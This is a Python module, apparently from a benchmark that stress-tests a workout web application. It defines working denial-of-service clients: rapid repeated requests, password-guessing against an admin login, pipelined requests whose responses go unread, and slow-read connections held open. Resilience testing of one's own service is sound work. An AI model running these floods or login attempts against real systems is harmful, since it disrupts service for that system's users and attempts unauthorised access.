"""Attacks with whole requests."""

import asyncio
import random
from collections.abc import Callable
from functools import partial

from bench.floods.attack import Attack, Client

LONG_LIST = "/workout/sessions/?page_size=500"
CSRF_TOKEN = "a" * 32
FORM = "application/x-www-form-urlencoded"
PIPELINED = 200


def ask_often(path: str) -> Client:
    """Return a client that asks for an address again and again."""
    return partial(request_often, lambda host: build_get(host, path))


async def log_in_often(attack: Attack, which: int) -> None:
    """Try passwords."""

    def build(host: str) -> bytes:
        password = random.randrange(10**9)
        body = f"csrfmiddlewaretoken={CSRF_TOKEN}&username=coach&password=wrong{password}"
        return build_post(host, "/admin/login/", body, f"Cookie: csrftoken={CSRF_TOKEN}\r\n")

    await request_often(build, attack, which)


async def finish_often(attack: Attack, which: int) -> None:
    def build(host: str) -> bytes:
        user_id = f"fin{random.randrange(50)}"
        return build_post(host, "/workout/finish", f"user_id={user_id}&exercise_type=squat")

    await request_often(build, attack, which)


async def pipeline(attack: Attack, which: int) -> None:
    """Send requests without waiting for the answers, and read none."""
    async with attack.open_stream() as (_, writer):
        writer.transport.pause_reading()
        requests = build_get(attack.host, "/") * PIPELINED
        await attack.pour(writer, requests, "requests", PIPELINED)


async def leave_list_unread(attack: Attack, which: int) -> None:
    async with attack.open_stream() as (_, writer):
        writer.write(build_get(attack.host, LONG_LIST))
        writer.transport.pause_reading()
        attack.done["open"] += 1
        await asyncio.Event().wait()


async def request_often(build: Callable[[str], bytes], attack: Attack, which: int) -> None:
    """Send a request when the last one is answered, on one connection while it is kept."""
    async with attack.open_stream() as (reader, writer):
        while True:
            writer.write(build(attack.host))
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            attack.done[f"status {head.split(maxsplit=2)[1].decode()}"] += 1
            await read_body(reader, head)
            if b"connection: close" in head:
                return


async def read_body(reader: asyncio.StreamReader, head: bytes) -> None:
    _, _, length = head.partition(b"content-length:")
    if length:
        left = int(length.split(maxsplit=1)[0])
        while left:
            left -= len(await reader.read(min(left, 65536))) or left
    elif b"transfer-encoding: chunked" in head:
        while size := int(await reader.readline(), 16):
            await reader.readexactly(size + 2)
        await reader.readexactly(2)


def build_get(host: str, path: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nAccept: application/json\r\n\r\n".encode()


def build_post(host: str, path: str, body: str, more: str = "") -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {FORM}\r\n"
        f"Content-Length: {len(body)}\r\n{more}\r\n{body}"
    ).encode()
